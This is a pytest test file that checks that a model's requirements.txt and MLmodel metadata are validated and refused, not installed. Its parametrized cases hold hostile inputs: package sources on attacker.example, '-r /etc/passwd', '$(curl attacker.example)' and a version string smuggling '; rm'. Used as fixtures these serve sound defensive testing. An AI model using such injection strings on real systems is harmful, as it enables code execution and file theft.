"""What a model may ask of the environment that a check makes for it; nothing is resolved or installed here."""

from __future__ import annotations

from pathlib import Path

import pytest
from contract_examples.test_static_environment import MLMODEL

from trivet.errors import CannotTell
from trivet.model.subjects import ModelDirectory
from trivet.toolkit.model_environment import environment_of
from trivet.toolkit.subjects import read_model_directory


def model(directory: Path, requirements: str | None, mlmodel: str = MLMODEL) -> ModelDirectory:
    (directory / "MLmodel").write_text(mlmodel)
    if requirements is not None:
        (directory / "requirements.txt").write_text(requirements)
    (found,) = read_model_directory(directory).subjects
    assert isinstance(found, ModelDirectory)
    return found


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://packages.attacker.example/simple",
        "-r /etc/passwd",
        "-e git+https://attacker.example/x#egg=numpy",
        "numpy @ https://attacker.example/numpy.whl",
        "./wheels/own.whl",
        "code/own-1.0-py3-none-any.whl",
        "numpy==1.26.4; " + "(" * 2000,
        "$(curl attacker.example)",
    ],
)
def test_a_requirement_that_is_more_than_a_package_with_versions_is_named_and_not_installed(
    tmp_path: Path, line: str
) -> None:
    with pytest.raises(CannotTell, match=r"requirements\.txt:2: .* is not a package with versions") as refusal:
        environment_of(model(tmp_path, f"mlflow==2.10.2\n{line}\n"), tmp_path)
    assert refusal.value.remedy


@pytest.mark.parametrize(
    ("requirements", "mlmodel", "words"),
    [
        (None, MLMODEL, "the model has no requirements.txt"),
        ("x\n" * 2000, MLMODEL, "more than 1,000 lines"),
        ("#" * 300_000, MLMODEL, "more than 262,144 bytes"),
        ("numpy", MLMODEL.replace("    python_version: 3.10.14\n", ""), "states no Python version"),
        ("numpy", MLMODEL.replace("3.10.14", "3.10; rm"), "python_function.python_version is '3.10; rm'"),
    ],
)
def test_a_model_that_does_not_say_its_environment_has_none(
    tmp_path: Path, requirements: str | None, mlmodel: str, words: str
) -> None:
    with pytest.raises(CannotTell) as refusal:
        environment_of(model(tmp_path, requirements, mlmodel), tmp_path)
    assert words in refusal.value.message
